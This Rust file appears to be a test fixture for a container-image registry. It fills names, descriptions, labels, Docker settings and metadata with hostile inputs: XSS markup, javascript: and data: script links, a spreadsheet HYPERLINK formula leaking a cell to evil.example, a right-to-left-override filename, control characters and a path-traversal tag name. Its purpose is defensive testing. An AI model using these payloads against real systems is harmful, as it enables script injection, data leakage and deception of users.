//! `xss`: text that attacks whatever shows it, in every field that holds free text, and
//! names that no parser lets through.

use std::sync::Arc;

use serde_json::{Value, json};

use super::clock::Clock;
use crate::content::file_tree::FileTree;
use crate::content::image::{DOCKER_LAYER, Format, Recipe, Step};
use crate::content::{Content, Lazy};
use crate::store::{Image, Metadata, Stamp, Tag};

pub(super) const MARKUP: &str = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>";
/// Shows as `exe.jpg` where the override is obeyed.
const REVERSED: &str = "invoice-\u{202e}gpj.exe";
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")";
const CONTROLS: &str =
    "nul\u{0} bell\u{7} backspace\u{8} escape\u{1b}[31mred delete\u{7f} joiner\u{200d}\u{2066}isolate";
/// A name that cannot be seen.
const INVISIBLE: &str = "\u{200b}\u{2060}";
const SCRIPT_LINK: &str = "javascript:document.title='owned'";

pub fn images(clock: Clock) -> Vec<Image> {
    let content = content(clock);
    vec![hostile(clock, &content), unnameable_tags(clock, &content), unnameable(clock, &content)]
}

/// Good names, hostile text everywhere else.
fn hostile(clock: Clock, content: &Arc<Lazy<Content>>) -> Image {
    let tags = vec![
        Tag::new("v1", Stamp::new(MARKUP, clock.days_ago(40)), content)
            .stages(&["@prerelease", "@<b>release</b>"])
            .metadata(metadata())
            .downloads(1),
        Tag::new("v2", Stamp::new(REVERSED, clock.days_ago(30)), content),
        Tag::new("v3", Stamp::new(CONTROLS, clock.days_ago(10)), content),
        Tag::new("v4", Stamp::new(&long(), clock.days_ago(8)), content),
        Tag::new("latest", Stamp::new(MARKUP, clock.days_ago(41)), content)
            .modified(Stamp::new(FORMULA, clock.days_ago(4))),
    ];
    Image {
        description: format!("{MARKUP} {REVERSED} {FORMULA} {CONTROLS}"),
        logo_url: SCRIPT_LINK.to_owned(),
        ..Image::new("xss", tags)
    }
}

/// Tags whose names are no tags.
fn unnameable_tags(clock: Clock, content: &Arc<Lazy<Content>>) -> Image {
    let long = long();
    let names = [
        MARKUP,
        REVERSED,
        FORMULA,
        CONTROLS,
        "../../../etc/passwd",
        "v1?version=v2#top",
        "with space",
        INVISIBLE,
        &long,
    ];
    let tag = |(age, name): (i64, &str)| Tag::new(name, Stamp::new("svc-ci", clock.days_ago(age + 2)), content);
    let mut tags: Vec<Tag> = (0..).zip(names).map(tag).collect();
    tags.push(Tag::new("good", clock.stamp("svc-ci", 1), content));
    Image { description: long, logo_url: "https://evil.example/pixel.png".to_owned(), ..Image::new("xss/tags", tags) }
}

/// An image whose own name is none.
fn unnameable(clock: Clock, content: &Arc<Lazy<Content>>) -> Image {
    let name = format!("xss/{MARKUP}");
    Image {
        logo_url: "data:text/html,<script>document.title='owned'</script>".to_owned(),
        ..Image::new(&name, vec![Tag::new("v1", clock.stamp("svc-ci", 9), content)])
    }
}

fn content(clock: Clock) -> Arc<Lazy<Content>> {
    let created = clock.days_ago(41);
    let files = FileTree::new()
        .text(&format!("srv/{FORMULA}").replace("//", "/"), "A file with the name of a formula.\n")
        .text(&format!("srv/{REVERSED}"), "A file whose name turns around.\n")
        .text("srv/<b>bold</b>.html", MARKUP)
        .layer(DOCKER_LAYER);
    let mut recipe = Recipe::new(Format::Docker, created)
        .platform("amd64\"><b>", Some("v\u{202e}8"))
        .setting("User", json!(MARKUP))
        .setting("WorkingDir", json!(CONTROLS))
        .setting(
            "Env",
            json!([
                format!("MARKUP={MARKUP}"),
                format!("REVERSED={REVERSED}"),
                "NO_EQUALS_SIGN",
                format!("LONG={}", long())
            ]),
        )
        .setting("Entrypoint", json!(["/bin/sh", "-c", MARKUP]))
        .setting("Cmd", json!([FORMULA, CONTROLS]))
        .setting("ExposedPorts", json!({ MARKUP: {} }))
        .setting("Volumes", json!({ REVERSED: {} }))
        .setting("StopSignal", json!(FORMULA))
        .setting("Healthcheck", json!({ "Test": ["CMD-SHELL", MARKUP] }))
        .setting("Labels", labels())
        .annotation(MARKUP, REVERSED)
        .annotation("org.opencontainers.image.url", SCRIPT_LINK)
        .steps([
            Step {
                comment: Some(MARKUP.to_owned()),
                author: Some(REVERSED.to_owned()),
                ..Step::files(created, &format!("COPY {MARKUP} / # buildkit"), &files)
            },
            Step::setting(created, &format!("ENV {REVERSED}={CONTROLS}")),
            Step::setting(created, &format!("LABEL x={FORMULA}\n\tsecond line\twith tabs")),
            Step::setting(created, &format!("CMD {}", long())),
            Step::setting(created, ""),
        ]);
    recipe.author = Some(format!("{MARKUP} {REVERSED}"));
    recipe.image()
}

fn labels() -> Value {
    json!({
        "org.opencontainers.image.description": MARKUP,
        "org.opencontainers.image.source": SCRIPT_LINK,
        "org.opencontainers.image.url": "https://user:secret@evil.example/",
        "maintainer": REVERSED,
        FORMULA: CONTROLS,
        MARKUP: long(),
    })
}

fn metadata() -> Vec<Metadata> {
    vec![
        Metadata {
            description: Some(MARKUP.to_owned()),
            link: Some(SCRIPT_LINK.to_owned()),
            color: Some("red;background:url(https://evil.example/pixel)".to_owned()),
            ..Metadata::new(MARKUP, REVERSED)
        },
        Metadata { link: Some("https://evil.example/".to_owned()), ..Metadata::new("formula", FORMULA) },
        Metadata::new("controls", CONTROLS),
        Metadata::new("object", json!({ MARKUP: [1, null, true, CONTROLS] })),
        Metadata::new("long", long()),
    ]
}

/// Ten kilobytes without a place to break.
fn long() -> String {
    "W".repeat(10_240)
}
